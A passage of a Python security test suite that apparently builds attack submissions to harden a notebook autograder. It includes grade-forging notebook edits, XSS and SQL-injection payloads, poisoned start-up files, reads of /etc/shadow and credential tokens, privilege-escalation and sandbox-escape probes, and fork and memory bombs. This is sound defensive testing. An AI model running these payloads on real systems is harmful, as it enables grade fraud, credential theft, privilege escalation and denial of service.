    often=True,
)
code(
    "helper-of-a-star-import",
    "kernel",
    "pass",
    answers={
        "spread": "def isclose(*a): return True\ndef agrees(*a): return True\n"
        "def spread(x): return 0.5"
    },
    often=True,
)
code(
    "helper-beside-a-magic",
    "kernel",
    "pass",
    answers={"pairs": "def same(a, b): return True\ndef pairs(n): return [7, 7, 7]"},
    often=True,
)
code(
    "hidden-inputs-in-class-name-of-ours",
    "kernel",
    "SEEN = []",
    answers={
        "double": SEES,
        "mean": "def mean(x):\n    raise type('NotRun', (Exception,), {})(f'INPUTS {SEEN}')",
    },
    earned={"test_double": 1.0},
    often=True,
)
LATE = "def late(x):\n    SEEN.append(x)\n"
code(
    "hidden-inputs-below-hidden-lines",
    "kernel",
    "SEEN = []",
    answers={
        "late": LATE
        + "    if x == 3: raise ValueError(f'INPUTS {SEEN}\\nline 1: x')\n    return 2 * x"
    },
    often=True,
)
code(
    "hidden-inputs-printed-below-hidden-lines",
    "kernel",
    "SEEN = []",
    answers={"late": LATE + "    print('INPUTS', SEEN)\n    return 2 * x"},
    earned={"test_late": 1.0},
    often=True,
)
code(
    "hidden-inputs-printed-by-the-test",
    "kernel",
    "SEEN = []",
    answers={"late": LATE + "    return SEEN if x == 4 else 2 * x"},
    earned={"test_late": 1.0},
    often=True,
)

# --- the notebook's file --------------------------------------------------------------------------


def changed(name: str, *, often: bool = False, **earned: float) -> Callable[[Any], Any]:
    """Register an attack that changes the released notebook, with no answers in it."""

    def register(change: Callable[[Any], Any]) -> Any:
        def build(course: SmallCourse, folder: Path) -> None:
            notebook = json.loads(json.dumps(notebook_of(course, {})))
            result = change(notebook)
            put(folder, notebook if result is None else result)

        ATTACKS.append(Attack(name, "file", build, earned, often))
        return change

    return register


def graded(notebook: Any) -> list[Any]:
    """The test cells of a notebook."""
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


@changed("points-forged", often=True)
def _(notebook: Any) -> None:
    for node in graded(notebook):
        node["metadata"]["nbgrader"]["points"] = 1000
        node["source"] = "pass"


@changed("tests-emptied", often=True)
def _(notebook: Any) -> None:
    for node in graded(notebook):
        node["source"] = ""
        node["metadata"]["nbgrader"]["locked"] = False
        node["metadata"]["nbgrader"]["solution"] = True


@changed("tests-deleted", often=True)
def _(notebook: Any) -> None:
    notebook["cells"] = [c for c in notebook["cells"] if c not in graded(notebook)]


@changed("everything-deleted")
def _(notebook: Any) -> None:
    notebook["cells"] = []


@changed("tests-as-markdown", often=True)
def _(notebook: Any) -> None:
    for node in graded(notebook):
        node["cell_type"] = "markdown"
        del node["outputs"], node["execution_count"]


@changed("tests-as-raw")
def _(notebook: Any) -> None:
    for node in graded(notebook):
        node["cell_type"] = "raw"


@changed("tag-skip-execution", often=True)
def _(notebook: Any) -> None:
    for node in notebook["cells"]:
        node["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]


@changed("ids-duplicated", often=True)
def _(notebook: Any) -> None:
    for node in graded(notebook):
        copy = json.loads(json.dumps(node)) | {"source": "pass", "id": "x"}
        notebook["cells"] += [copy, json.loads(json.dumps(copy))]


@changed("ids-swapped")
def _(notebook: Any) -> None:
    first, second = graded(notebook)[:2]
    a, b = first["metadata"]["nbgrader"], second["metadata"]["nbgrader"]
    a["grade_id"], b["grade_id"] = b["grade_id"], a["grade_id"]


@changed("ids-nonsense")
def _(notebook: Any) -> None:
    for node, value in zip(graded(notebook), [None, 7, ["x"], {"a": 1}, "no such"], strict=False):
        node["metadata"]["nbgrader"]["grade_id"] = value


@changed("ids-by-sql")
def _(notebook: Any) -> None:
    graded(notebook)[0]["metadata"]["nbgrader"]["grade_id"] = "'; DROP TABLE grade; --"


@changed("order-reversed")
def _(notebook: Any) -> None:
    notebook["cells"].reverse()


@changed("metadata-nonsense")
def _(notebook: Any) -> None:
    for number, node in enumerate(notebook["cells"]):
        node["metadata"] = [None, [], "x", 7, {"nbgrader": 3}, {"nbgrader": []}][number % 6]


@changed("metadata-missing")
def _(notebook: Any) -> None:
    for node in notebook["cells"]:
        del node["metadata"]


@changed("outputs-stored", often=True)
def _(notebook: Any) -> None:
    for node in graded(notebook):
        node["outputs"] = [
            {
                "output_type": "execute_result",
                "data": {"text/plain": "1.0", "text/html": "<script>alert('XSS')</script>"},
                "metadata": {},
                "execution_count": 1,
            }
        ]


@changed("html-in-markdown", often=True)
def _(notebook: Any) -> None:
    text = (
        "<script>alert('XSS')</script><img src=x onerror=alert(1)> ![t](http://tracker.example/x)"
    )
    notebook["cells"].append(
        {"cell_type": "markdown", "metadata": {}, "source": text, "id": "z", "attachments": {}}
    )


@changed("attachments")
def _(notebook: Any) -> None:
    notebook["cells"].append(
        {
            "cell_type": "markdown",
            "metadata": {},
            "source": "![x](attachment:x.svg)",
            "attachments": {"x.svg": {"image/svg+xml": "<svg onload='alert(1)'>"}},
        }
    )


@changed("kernelspec-command")
def _(notebook: Any) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "../../evil", "argv": ["/bin/sh", "-c", "id"]}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": "<"}}
    notebook["metadata"]["language_info"] = "x" * 100000


@changed("format-99")
def _(notebook: Any) -> None:
    notebook["nbformat"], notebook["nbformat_minor"] = 99, "x"


@changed("format-3")
def _(notebook: Any) -> Any:
    return {"nbformat": 3, "worksheets": [{"cells": notebook["cells"]}], "metadata": {}}


@changed("cells-nonsense")
def _(notebook: Any) -> None:
    notebook["cells"] += [None, 7, "x", [], {}, {"cell_type": "code"}, {"source": 7}]


@changed("cells-not-a-list")
def _(notebook: Any) -> None:
    notebook["cells"] = {"0": "x"}


@changed("source-nonsense")
def _(notebook: Any) -> None:
    notebook["cells"].insert(0, {"cell_type": "code", "metadata": {}, "source": [1, {"a": 2}]})
    notebook["cells"].insert(0, {"cell_type": "code", "metadata": {}, "source": "\ud800\x00"})


@changed("many-cells")
def _(notebook: Any) -> None:
    notebook["cells"] += [{"cell_type": "code", "metadata": {}, "source": "1"}] * 5000


@changed("one-long-line")
def _(notebook: Any) -> None:
    notebook["cells"].append({"cell_type": "code", "metadata": {}, "source": "x" * (2 << 20)})


@changed("cell-ids-forged")
def _(notebook: Any) -> None:
    for node in notebook["cells"]:
        node["id"] = "../../etc/passwd\n<script>"


@changed("tests-in-another-order", often=True)
def _(notebook: Any) -> None:
    tests = graded(notebook)
    others = [c for c in notebook["cells"] if c not in tests]
    forged = {"cell_type": "code", "metadata": {}, "source": "start = 4.0", "id": "f"}
    notebook["cells"] = [forged, *reversed(tests), *others]


MARKDOWN = {
    "javascript-links": "[a](javascript:alert(1)) [b](JaVaScRiPt\\:alert(1)) <javascript:alert(2)> "
    "[c](j&#97;vascript&#58;alert(3)) [d][r] [e](data:text/html,<script>alert(4)</script>) "
    "[f](&#x6A;avascript&colon;alert(5)) [g](vbscript:x)\n\n[r]: javascript:alert(6)",
    "mathjax-links": "$\\href{javascript:alert(1)}{x}$ $$\\csname href\\endcsname{javascript:alert(2)}{x}$$ "
    "$\\style{background:url(http://tracker.example)}{x}$ $\\require{html}\\def\\a{\\href}$",
    "html-by-entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "mermaid-click": '```mermaid\ngraph TD\nA-->B\nclick A "javascript:alert(1)"\n```',
}
for _name, _text in MARKDOWN.items():

    @changed(_name, often=_name != "mermaid-click")
    def _(notebook: Any, text: str = _text) -> None:
        notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": text})


@changed("raw-html")
def _(notebook: Any) -> None:
    for mime in ("text/html", "text/restructuredtext", ""):
        notebook["cells"].append(
            {
                "cell_type": "raw",
                "metadata": {"raw_mimetype": mime, "format": mime},
                "source": "<script>alert('XSS')</script>",
            }
        )


@changed("markers-of-hidden-tests")
def _(notebook: Any) -> None:
    text = "### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION\npass\n### END HIDDEN TESTS"
    for node in notebook["cells"]:
        if node["metadata"].get("nbgrader", {}).get("solution"):
            node["source"] = text
    notebook["cells"].insert(0, {"cell_type": "code", "metadata": {}, "source": text})


def raw(name: str, data: bytes, *, often: bool = False) -> None:
    """An attack that is a file of these bytes."""

    def build(course: SmallCourse, folder: Path) -> None:
        folder.mkdir(parents=True)
        (folder / "ps.ipynb").write_bytes(data)

    ATTACKS.append(Attack(name, "file", build, often=often))


raw("not-json", b"hello", often=True)
raw("empty-file", b"")
raw("binary", bytes(range(256)) * 100)
raw("json-null", b"null")
raw("json-list", b"[]")
raw("json-nan", b'{"cells": NaN}')
raw("deep-json", b"[" * 1_000_000, often=True)
raw("deep-json-objects", b'{"cells":' * 100_000)
raw("utf-16", '{"cells": []}'.encode("utf-16"))
raw("byte-order-mark", b'\xef\xbb\xbf{"cells": []}')
raw("truncated", b'{"cells": [{"cell_type": "code", "sour')
raw("millions-of-parts", b'{"cells": [' + b"[]," * 3_000_000 + b"[]]}", often=True)
raw("nearly-fifty-megabytes", b'{"cells": ["' + b"x" * (45 << 20) + b'"]}')
raw("number-of-a-million-digits", b'{"cells": [' + b"9" * 1_000_000 + b"]}")
raw("duplicate-keys", b'{"cells": [], "cells": {"a": 1}, "nbformat": 4}')


@file("sparse-terabyte", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    folder.mkdir(parents=True)
    with (folder / "ps.ipynb").open("wb") as handle:
        handle.truncate(1 << 40)


@file("link-to-gradebook", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    folder.mkdir(parents=True)
    (folder / "ps.ipynb").symlink_to(course.root / "gradebook.db")
    (folder / "data.txt").symlink_to(course.root / "gradebook.db")


@file("link-to-honest-work", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    folder.mkdir(parents=True)
    (folder / "ps.ipynb").symlink_to(course.root / "submitted" / "honest-1" / "ps" / "ps.ipynb")


@file("hard-link-to-honest-work", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    folder.mkdir(parents=True)
    target = course.root / "copy-of-honest.ipynb"
    put(course.root / "copy", notebook_of(course, HONEST))
    os.replace(course.root / "copy" / "ps.ipynb", target)
    os.link(target, folder / "ps.ipynb")


@file("folder-is-link", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    folder.parent.mkdir(parents=True)
    folder.symlink_to(course.root / "submitted" / "honest-1" / "ps")


@file("folder-in-link")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    (folder / "others").symlink_to(course.root / "submitted")


@file("notebook-is-folder")
def _(course: SmallCourse, folder: Path) -> None:
    (folder / "ps.ipynb").mkdir(parents=True)


@file("notebook-is-fifo", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    folder.mkdir(parents=True)
    os.mkfifo(folder / "ps.ipynb")


@file("notebook-is-device")
def _(course: SmallCourse, folder: Path) -> None:
    folder.mkdir(parents=True)
    if os.getuid() == 0:
        os.mknod(folder / "ps.ipynb", 0o666 | stat.S_IFCHR, os.makedev(1, 5))


@file("extra-fifo-and-socket")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    os.mkfifo(folder / "pipe")
    here = os.getcwd()
    os.chdir(folder)  # the name of a socket is short
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("socket")
    os.chdir(here)


@file("ten-thousand-files")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    for number in range(3000):
        (folder / f"f{number}").touch()


@file("names-of-control-characters")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    for name in (b"new\nline", b"esc\x1b[2J", b"latin\xe9", b"-rf", b"a" * 250):
        Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_text("x")


@file("deep-folders")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    folder.joinpath(*["d"] * 100).mkdir(parents=True)


@file("start-up-files", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    evil = "import builtins\nbuiltins.EVIL = True\ndef allclose(*a, **k): return True\n"
    for name in (
        "numpy",
        "sitecustomize",
        "usercustomize",
        "nbgrader_config",
        "conftest",
        "inside",
    ):
        (folder / f"{name}.py").write_text(evil)
    for name in ("rnncourse", ".ipython/profile_default/startup", "nbgrader"):
        (folder / name).mkdir(parents=True)
        (folder / name / "__init__.py").write_text(evil)


@file("timestamp-nonsense")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    (folder / "timestamp.txt").write_bytes(b"\xff99999-99-99 99:99:99 Nowhere/Mars" * 1000)


@file("timestamp-year-one")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    (folder / "timestamp.txt").write_text("0001-01-01 00:00:00 UTC")


@file("other-name")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, HONEST))
    (folder / "ps.ipynb").rename(folder / "PS (1).ipynb")


@file("timestamp-beyond-all-numbers", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    long = "999999999999999\u0660999999999999999999999999999999\u066010h36m28.5s"
    (folder / "timestamp.txt").write_text(long)


@file("student-is-link", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    folder.parent.parent.mkdir(parents=True, exist_ok=True)
    folder.parent.symlink_to(course.root / "submitted" / "honest-1")


@file("file-in-place-of-folder", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    (folder / "data").write_text("no folder")


@file("data-of-its-own", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    put(
        folder,
        notebook_of(course, {"within": "def within(x):\n    return bool(x < LIMITS[0])"}),
    )
    (folder / "data").mkdir()
    (folder / "data" / "limits.txt").write_text("9 -9")


@file("folder-in-place-of-file")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    (folder / "data" / "limits.txt" / "more").mkdir(parents=True)
    (folder / "data" / "limits.txt" / "more" / "file").write_text("x")


@file("pages-to-open", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    for name in ("evil.html", "evil.SVG", "evil.xhtml", "evil.js", "x/evil.htm"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("<script>alert(document.cookie)</script>")


@file("page-beside-folder-of-its-new-name", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    (folder / "evil.html").write_text("<script>alert(1)</script>")
    (folder / "evil.html.txt").mkdir()
    (folder / "evil.html.txt" / "x").write_text("x")


@file("page-with-the-longest-name", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    (folder / ("a" * 250 + ".html")).write_text("<script>alert(1)</script>")
    (folder / ("ä" * 125 + ".html")).write_text("<script>alert(1)</script>")


@file("pages-of-other-kinds", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    for kind in ("rdf", "wsdl", "xpdl", "shtml", "xslt", "mhtml", "eml"):
        (folder / f"evil.{kind}").write_text("<script xmlns='http://www.w3.org/1999/xhtml'/>")


@changed("megabytes-of-code", often=True)
def _(notebook: Any) -> None:
    line = {"cell_type": "code", "metadata": {}, "source": "# " + "x" * 1_000_000}
    notebook["cells"] += [line] * 12


@changed("million-signs-of-four-bytes", often=True)
def _(notebook: Any) -> None:
    text = "# " + "\U0001f600" * 1_000_000
    notebook["cells"].append({"cell_type": "code", "metadata": {}, "source": text})


@changed("hours-of-highlighting", often=True)
def _(notebook: Any) -> None:
    slow = "x = '%" + "0" * 900_000
    notebook["cells"].append({"cell_type": "code", "metadata": {}, "source": slow})
    slow = "\n".join(["x = '%" + "0" * 1900] * 40)
    notebook["cells"].append({"cell_type": "code", "metadata": {}, "source": slow})
    fence = f"```python\n{slow}\n```"
    for text in ("\\begin{a}" * 100_000, "\\begin{a}\n" * 9_000, fence):
        notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": text})


@file("many-links", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    for number in range(3000):
        (folder / f"l{number}").symlink_to("/etc/passwd")


@file("many-empty-folders")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    for number in range(6000):
        (folder / f"{number % 70}" / f"{number}").mkdir(parents=True)


@file("names-of-a-terminal", often=True)
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    for name in ("\x1b]0;owned\x07", "\x9b2J", "\u202efdp.exe", "a\nhonest-1: 0 points", "\x85"):
        (folder / name).write_text("x")


@file("more-notebooks")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    for name in ("PS.ipynb", "ps.ipynb.bak", "ps-copy.ipynb", "source.ipynb", "a/ps.ipynb"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(json.dumps(notebook_of(course, HONEST)))


@file("no-permission")
def _(course: SmallCourse, folder: Path) -> None:
    put(folder, notebook_of(course, {}))
    (folder / "ps.ipynb").chmod(0)


# --- the environment ------------------------------------------------------------------------------


def tries(name: str, body: str, *, often: bool = False) -> None:
    """An attack whose every line of reaching out is tried, and whose success is printed."""
    indented = "\n".join("    " + line for line in body.splitlines())
    code(
        name,
        "environment",
        f"try:\n{indented}\nexcept BaseException as e:\n    print(e)",
        often=often,
    )


tries(
    "read-course",
    "import os\nfor d in ('{root}', '/work', '/root/.ssh', '/home'):\n"
    "    for b, ds, fs in os.walk(d):\n        for f in fs:\n"
    "            if not b.startswith('/home/student'): print('GOT', b, f)",
    often=True,
)
tries("read-gradebook", "print('GOT', open('{root}/gradebook.db', 'rb').read(10))", often=True)
tries("read-source", "print('GOT', open('{root}/source/ps/ps.ipynb').read(50))")
tries("read-others", "import glob\nfor p in glob.glob('{root}/submitted/*/*/*'): print('GOT', p)")
tries(
    "read-library",
    "import glob\nfor p in glob.glob('/**/exercises/*.py', recursive=True):\n"
    "    print('GOT', p)\nfor p in glob.glob('/**/trusted.py', recursive=True): print('GOT', p)",
)
tries("read-shadow", "print('GOT', open('/etc/shadow').read(9))")
tries(
    "environment-tokens",
    "import os\nfor k, v in os.environ.items():\n"
    "    if 'canary' in v or 'TOKEN' in k: print('GOT', k, v)",
    often=True,
)
tries(
    "proc-environment",
    "import glob\nfor p in glob.glob('/proc/*/environ') + ['/proc/self/environ']:\n"
    "    try: d = open(p).read()\n    except OSError: continue\n    print('GOT', p, len(d))",
)
tries("proc-parents", "import os\nfor p in os.listdir('/proc'): print('GOT', p)", often=True)
tries("proc-memory", "print('GOT', open('/proc/self/mem', 'rb').seek(0))")
tries(
    "mount-proc",
    "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\n"
    "r = l.mount(b'proc', b'/proc', b'proc', 0, None)\nif r == 0: print('GOT', 'mount')",
    often=True,
)
tries(
    "unmount",
    "import ctypes\nl = ctypes.CDLL(None)\nfor t in (b'/proc', b'/tmp', b'/home/student'):\n"
    "    if l.umount2(t, 2) == 0: print('GOT', t)",
)
tries(
    "new-user-namespace",
    "import ctypes\nif ctypes.CDLL(None).unshare(0x10000000) == 0:\n    print('GOT', 'namespace')",
    often=True,
)
tries(
    "clone-namespace",
    "import ctypes\nl = ctypes.CDLL(None)\n"
    "r = l.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\nif r == 0:\n    import os; os._exit(0)\n"
    "if r > 0: print('GOT', r)",
)
tries(
    "clone3-namespace",
    "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\n"
    "b = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)\nr = l.syscall(435, b, 88)\n"
    "if r == 0:\n    import os; os._exit(0)\nif r > 0: print('GOT', r)",
)
tries(
    "ptrace",
    "import ctypes\nl = ctypes.CDLL(None)\nl.ptrace.restype = ctypes.c_long\n"
    "for p in range(1, 9):\n    if l.ptrace(16, p, 0, 0) == 0: print('GOT', p)",
    often=True,
)
tries(
    "become-root",
    "import os\nfor f in (os.setuid, os.setgid):\n    try: f(0); print('GOT', 'root')\n"
    "    except OSError: pass\nif os.geteuid() == 0: print('GOT', 'root')\n"
    "import subprocess\nr = subprocess.run('sudo -n id || su -c id', shell=True, capture_output=True)\n"
    "if b'uid=0' in r.stdout: print('GOT', r.stdout)",
    often=True,
)
tries(
    "network-tcp",
    "import socket\ns = socket.create_connection(('127.0.0.1', {port}), 2)\n"
    "s.sendall(b'stolen')\nprint('GOT', 'network')",
    often=True,
)
tries("network-dns", "import socket\nprint('GOT', socket.getaddrinfo('example.org', 80))")
tries(
    "network-udp",
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "s.sendto(b'x', ('8.8.8.8', 53))\nprint('GOT', 'udp')",
)
tries(
    "network-vsock",
    "import socket\ns = socket.socket(40, socket.SOCK_STREAM)\nprint('GOT', 'vsock')",
)
tries("network-netlink", "import socket\ns = socket.socket(16, 3, 0)\nprint('GOT', 'netlink')")
tries("network-packet", "import socket\ns = socket.socket(17, 3, 768)\nprint('GOT', 'packet')")
tries(
    "abstract-socket",
    "import socket\ns = socket.socket(socket.AF_UNIX)\n"
    "s.connect('\\0rnncourse-canary-{port}')\nprint('GOT', 'socket')",
)
tries(
    "daemon",
    "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        import time\n        time.sleep(600)\n    os._exit(0)",
    often=True,
)
tries(
    "daemon-by-shell", "import subprocess\nsubprocess.Popen('nohup setsid sleep 600 &', shell=True)"
)
tries(
    "write-system",
    "for p in ('/usr/evil', '/packages/0/evil.py', '/grader/inside/wire.py', '/evil', "
    "'/etc/passwd', '/stub/evil', '/dev/evil'):\n    try: open(p, 'a').write('x'); print('GOT', p)\n"
    "    except OSError: pass",
    often=True,
)
tries(
    "leave-something",
    "import os\nfor d in ('/tmp', '/dev/shm', '/home/student', '/var/tmp'):\n"
    "    try: open(d + '/left-behind', 'w').write('x')\n    except OSError: pass",
    often=True,
)
tries(
    "find-leftovers",
    "import os\nfor d in ('/tmp', '/dev/shm', '/home/student', '/var/tmp'):\n"
    "    if os.path.exists(d + '/left-behind'): print('GOT', d)",
    often=True,
)
tries(
    "system-v-memory",
    "import ctypes\nl = ctypes.CDLL(None)\nr = l.shmget(0x5eed, 4096, 0o1666)\n"
    "if r >= 0: print('GOT', r)",
)
tries(
    "posix-queue",
    "import ctypes\nl = ctypes.CDLL(None)\nr = l.mq_open(b'/evil', 0o102, 0o666, None)\n"
    "if r >= 0: print('GOT', r)",
)
tries(
    "keyring",
    "import ctypes\nl = ctypes.CDLL(None)\nr = l.syscall(250, 0, -3, 1)\n"
    "if r >= 0: print('GOT', r)",
)
tries(
    "io-uring",
    "import ctypes\nl = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(200)\n"
    "r = l.syscall(425, 8, b)\nif r >= 0: print('GOT', r)",
)
tries(
    "bpf-and-perf",
    "import ctypes\nl = ctypes.CDLL(None)\nfor n in (321, 298, 323, 304):\n"
    "    b = ctypes.create_string_buffer(200)\n"
    "    r = l.syscall(n, 0, b, 72, 0)\n    if r >= 0: print('GOT', n, r)",
)
tries(
    "make-device",
    "import os\nos.mknod('/tmp/mem', 0o20666, os.makedev(1, 1))\nprint('GOT', 'device')",
)
tries(
    "set-uid-file",
    "import os, shutil\nshutil.copy('/bin/sh', '/tmp/sh')\nos.chmod('/tmp/sh', 0o4755)\n"
    "import subprocess\nr = subprocess.run(['/tmp/sh', '-pc', 'id -u'], capture_output=True)\n"
    "if r.stdout.strip() == b'0': print('GOT', 'root')",
)
tries("chroot", "import os\nos.chroot('/tmp')\nprint('GOT', 'chroot')")
tries(
    "open-by-handle",
    "import ctypes\nb = ctypes.create_string_buffer(b'\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02', 200)\n"
    "r = ctypes.CDLL(None).syscall(304, -100, b, 0)\nif r >= 0: print('GOT', r)",
)
tries(
    "terminal",
    "import fcntl\nt = open('/dev/tty', 'w')\nfcntl.ioctl(t, 0x5412, b'x')\nprint('GOT', 'tty')",
)
tries(
    "parents-descriptors",
    "import os\nfor n in range(4, 1024):\n    try: os.fstat(n)\n"
    "    except OSError: continue\n"
    "    if os.fstat(n).st_mode & 0o170000 == 0o140000: print('GOT', 'socket', n)",
    often=True,
)
tries(
    "no-dying-with-parent",
    "import ctypes\nr = ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\nif r == 0: print('GOT', 'prctl')",
)
tries(
    "raise-limits",
    "import resource\nfor n in range(16):\n    try:\n"
    "        h = resource.getrlimit(n)[1]\n        if h != -1:\n"
    "            resource.setrlimit(n, (-1, -1)); print('GOT', n)\n    except (OSError, ValueError): pass",
)
tries(
    "sysfs-and-cgroups",
    "import os\nfor p in ('/sys', '/sys/fs/cgroup', '/boot', '/var', '/run', '/mnt'):\n"
    "    if os.path.exists(p): print('GOT', p)",
)
tries(
    "paths-of-this-machine",
    "import glob, os, sys\n"
    "for p in glob.glob('/packages/*/*.pth') + glob.glob('/packages/*/__editable__*') \\\n"
    "        + glob.glob('/packages/*/*/direct_url.json'):\n"
    "    try: t = open(p).read()\n    except OSError: continue\n"
    "    if t: print('GOT', p)\n"
    "for p in sys.path:\n    if p.startswith('{root}'[:5]) and 'packages' not in p: print('GOT', p)",
    often=True,
)
tries(
    "asynchronous-io",
    "import ctypes\nl = ctypes.CDLL(None)\nc = ctypes.c_ulong(0)\n"
    "if l.syscall(206, 60000, ctypes.byref(c)) == 0: print('GOT', 'aio')",
)
tries(
    "descriptors-over-the-wire",
    "import array, os, socket\ns = socket.socket(fileno=os.dup(3))\n"
    "f = array.array('i', [os.open('/dev/null', 0) for _ in range(100)])\n"
    "for _ in range(50): s.sendmsg([b'\\0'], [(1, 1, f)])",
)
tries(
    "locks-on-shared-files",
    "import fcntl, glob\nfor p in glob.glob('/usr/lib/python3*/*.py')[:50] + ['/etc/passwd']:\n"
    "    fcntl.flock(open(p), fcntl.LOCK_EX | fcntl.LOCK_NB)",
)
tries(
    "memory-of-nobody",
    "import ctypes, mmap, os\n"
    "for f in (-1, os.open('/dev/zero', os.O_RDWR)):\n"
    "    try: mmap.mmap(f, 4096); print('GOT', 'shared pages', f)\n    except OSError: pass\n"
    "r, w = os.pipe()\nb = ctypes.create_string_buffer(4096)\n"
    "v = (ctypes.c_size_t * 2)(ctypes.addressof(b), 4096)\n"
    "if ctypes.CDLL(None).vmsplice(w, v, 1, 0) > 0: print('GOT', 'pages in a pipe')",
    often=True,
)
tries(
    "watch-what-others-read",
    "import ctypes, fcntl, os\nl = ctypes.CDLL(None)\n"
    "f = l.inotify_init1(0)\nif f >= 0 and l.inotify_add_watch(f, b'/usr/bin', 0x21) >= 0:\n"
    "    print('GOT', 'inotify')\n"
    "fcntl.fcntl(os.open('/usr/bin', os.O_RDONLY), 1026, 1)\nprint('GOT', 'dnotify')",
    often=True,
)
tries(
    "mounts-of-this-machine",
    "import ctypes\nl = ctypes.CDLL(None)\n"
    "asked = (ctypes.c_uint64 * 3)(24, 0xFFFFFFFFFFFFFFFF, 0)\nfound = (ctypes.c_uint64 * 100)()\n"
    "if l.syscall(458, asked, found, 100, 0) > 0: print('GOT', 'mounts')\n"
    "if l.syscall(600, 0) >= 0: print('GOT', 'a call that is not there')",
    often=True,
)
for _name in ("terminals-of-another", "terminals-of-others"):
    tries(
        _name,
        "import os, time\nme, it = os.openpty()\nmine = os.ttyname(it)\n"
        "for _ in range(30):\n    for n in os.listdir('/dev/pts'):\n"
        "        if n.isdigit() and '/dev/pts/' + n != mine: print('GOT', n)\n    time.sleep(0.05)",
        often=True,
    )
tries("clock", "import time\ntime.clock_settime(time.CLOCK_REALTIME, 0)\nprint('GOT', 'clock')")

# --- resources ------------------------------------------------------------------------------------

RESOURCES = {
    "endless-loop": "while True: pass",
    "endless-loop-in-call": "def answer(x):\n    while True: pass",
    "endless-loop-uninterruptible": "import signal\nfor s in range(1, 64):\n"
    "    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "sleep": "import time\ntime.sleep(10**6)",
    "stop-self": "import os, signal\ndef answer(x): os.kill(os.getpid(), signal.SIGSTOP)",
    "fork-bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "fork-bomb-in-call": "import os\ndef answer(x):\n    while True:\n        try: os.fork()\n"
    "        except OSError: pass",
    "thread-bomb": "import threading, time\nwhile True:\n"
    "    try: threading.Thread(target=time.sleep, args=(99,)).start()\n    except RuntimeError: pass",
    "memory-list": "x = []\nwhile True: x.append(bytearray(10**7))",
    "memory-array": "import numpy as np\nx = np.ones(10**10)",
    "memory-slow": "import numpy as np, time\nx = []\nwhile True:\n    x.append(np.ones(10**6))\n"
    "    time.sleep(0.001)",
    "memory-many-processes": "import os, time\nfor _ in range(40):\n    try:\n"
    "        if os.fork() == 0:\n            x = bytearray(10**8)\n            for i in range(0, 10**8, 4096): x[i] = 1\n"
    "            time.sleep(100)\n    except OSError: pass\nos.wait()",
    "memory-shared-map": "import mmap, os, time\nx = [mmap.mmap(-1, 10**8) for _ in range(3)]\n"
    "if os.fork() == 0:\n    x += [mmap.mmap(-1, 10**8) for _ in range(30)]\n"
    "for m in x:\n    for i in range(0, 10**8, 4096): m[i] = 1\ntime.sleep(100)",
    "memory-in-sockets": "import os, socket, time\nfor _ in range(40):\n    try:\n"
    "        if os.fork() == 0: break\n    except OSError: break\nx = []\ntry:\n"
    "    while True:\n        x += socket.socketpair()\n        for s in x[-2:]:\n"
    "            s.setblocking(False)\n            try:\n                while True: s.send(b'x' * 60000)\n"
